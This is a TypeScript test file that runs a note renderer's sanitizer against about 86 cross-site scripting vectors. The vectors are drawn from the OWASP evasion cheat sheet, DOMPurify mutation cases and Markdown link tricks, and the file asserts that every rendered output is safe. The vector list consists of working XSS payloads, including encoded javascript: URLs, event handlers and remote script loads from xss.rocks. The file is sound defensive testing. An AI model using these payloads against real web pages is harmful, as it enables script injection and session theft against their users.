import type { Element, Root } from "hast";
import rehypeParse from "rehype-parse";
import rehypeSanitize from "rehype-sanitize";
import { unified } from "unified";
import { describe, expect, it } from "vitest";
import { ALLOWED_STYLES } from "./filter-styles";
import { renderNote, type NoteFormat } from "./render-note";
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitizeSchema } from "./sanitize-schema";
import { walkElements } from "./walk-elements";

// OWASP XSS filter evasion cheat sheet, DOMPurify's mXSS cases and Markdown-specific vectors.
const VECTORS = [
  "<script>alert(1)</script>",
  '<SCRIPT SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<img srcset="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://example.com/a.png" onload="alert(1)">',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jAvAsCrIpT&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://example.com" onmouseover="alert(1)">x</a>',
  '<a href="https://example.com" xlink:href="javascript:alert(1)">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form id="f"></form><button form="f" formaction="javascript:alert(1)">X</button>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<style>@import 'http://xss.rocks/xss.css';</style>",
  '<p style="background-image: url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="color: expression(alert(1))">x</p>',
  '<p style="behavior: url(xss.htc)">x</p>',
  '<p style="color: red; -moz-binding: url(http://x/xss.xml#xss)">x</p>',
  '<p style="color: \\72 ed; background: url(&#1;javascript:alert(1))">x</p>',
  '<p style="color: red /* */; color: rgb(1,2,3)</style><script>alert(1)</script>">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<div><template><img src=x onerror=alert(1)></template></div>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  '<ul><li><input type="checkbox" onclick="alert(1)"> x</li></ul>',
  "<select autofocus onfocus=alert(1)>",
  '<video><source onerror="alert(1)"></video>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  '[x](javascript:alert(1) "title")',
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "![x](javascript:alert(1))",
  "![x](data:image/png;base64,AAAA)",
  "<javascript:alert(1)>",
  "[x]\n\n[x]: javascript:alert(1)",
  "Hello <img src=x onerror=alert(1)> world",
  "<div>\n<script>alert(1)</script>\n</div>",
  "- [ ] <input type=text onfocus=alert(1) autofocus>",
];

const FORBIDDEN_TAGS = new Set(
  "script iframe object embed svg math style form base meta link textarea button select template".split(" "),
);
const DANGEROUS_SCHEME = /^(?:javascript|data|vbscript):/i;

function parseFragment(html: string): Root {
  return unified().use(rehypeParse, { fragment: true }).parse(html);
}

function allowedAttribute(element: Element, name: string): boolean {
  if (element.tagName === "a" && name === "rel") return true;
  const rules = [...(ALLOWED_ATTRIBUTES[element.tagName] ?? []), ...(ALLOWED_ATTRIBUTES["*"] ?? [])];
  return rules.some((rule) => (typeof rule === "string" ? rule : rule[0]) === name);
}

/** Fails the test if `html`, as a browser would parse it, could run code or load a dangerous URL. */
function expectSafe(html: string): void {
  expect(html).not.toMatch(/<script/i);
  walkElements(parseFragment(html), (element) => {
    expect(FORBIDDEN_TAGS.has(element.tagName), `<${element.tagName}>`).toBe(false);
    expect(ALLOWED_TAGS, `<${element.tagName}>`).toContain(element.tagName);
    if (element.tagName === "input") {
      expect(element.properties).toMatchObject({ type: "checkbox", disabled: true });
    }
    for (const [name, value] of Object.entries(element.properties)) {
      expect(name, `${name} on <${element.tagName}>`).not.toMatch(/^on/i);
      expect(allowedAttribute(element, name), `${name} on <${element.tagName}>`).toBe(true);
      const text = (Array.isArray(value) ? value.join(" ") : String(value)).replace(/[\u0000-\u0020]/g, "");
      if (name === "href" || name === "src") expect(text).not.toMatch(DANGEROUS_SCHEME);
    }
    const style = element.properties.style;
    if (typeof style === "string") {
      expect(style).not.toMatch(/url\(|expression\(|\\|\/\*/i);
      for (const declaration of style.split(";")) {
        expect(Object.keys(ALLOWED_STYLES)).toContain(declaration.split(":")[0]);
      }
    }
  });
}

describe("renderNote against XSS vectors", () => {
  it("has at least 40 vectors", () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(40);
  });

  describe.each<NoteFormat>(["markdown", "html"])("%s", (format) => {
    it.each(VECTORS)("neutralises %j", (vector) => {
      const output = renderNote(vector, format);
      expectSafe(output);
      // The stored HTML is sanitized again when it is shown as a page of another note: still safe.
      expectSafe(renderNote(output, "html"));
    });
  });

  it("keeps the harmless part of a link whose URL it drops", () => {
    expect(renderNote("[x](javascript:alert(1))", "markdown")).toBe(
      '<p><a rel="noopener noreferrer nofollow ugc">x</a></p>',
    );
    expect(renderNote('<a href="jav&#x09;ascript:alert(1)">x</a>', "html")).toBe(
      '<a rel="noopener noreferrer nofollow ugc">x</a>',
    );
  });

  it("drops script content and event handlers but keeps allowed markup around them", () => {
    expect(renderNote("a <b onclick=alert(1)>b</b><script>alert(1)</script> c", "markdown")).toBe(
      "<p>a <b>b</b> c</p>",
    );
    expect(
      renderNote("<p>a<iframe src=https://example.com></iframe><img src=x onerror=alert(1)></p>", "html"),
    ).toBe("<p>a<img></p>");
  });

  it("does not let noscript or comments smuggle an element out of an attribute", () => {
    expect(renderNote('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "html")).toBe("");
    expect(renderNote('<!--<img src="--><img src=x onerror=alert(1)//">', "html")).toBe("<img>");
  });

  // The serializer writes raw nodes as they are, for the highlighter's HTML: safe only because the
  // sanitizer, which every tree goes through before, leaves none.
  it("leaves no raw node for the serializer: the sanitizer drops them", () => {
    const tree: Root = { type: "root", children: [{ type: "raw", value: "<script>alert(1)</script>" }] };
    expect(unified().use(rehypeSanitize, sanitizeSchema).runSync(tree)).toEqual({
      type: "root",
      children: [],
    });
  });
});
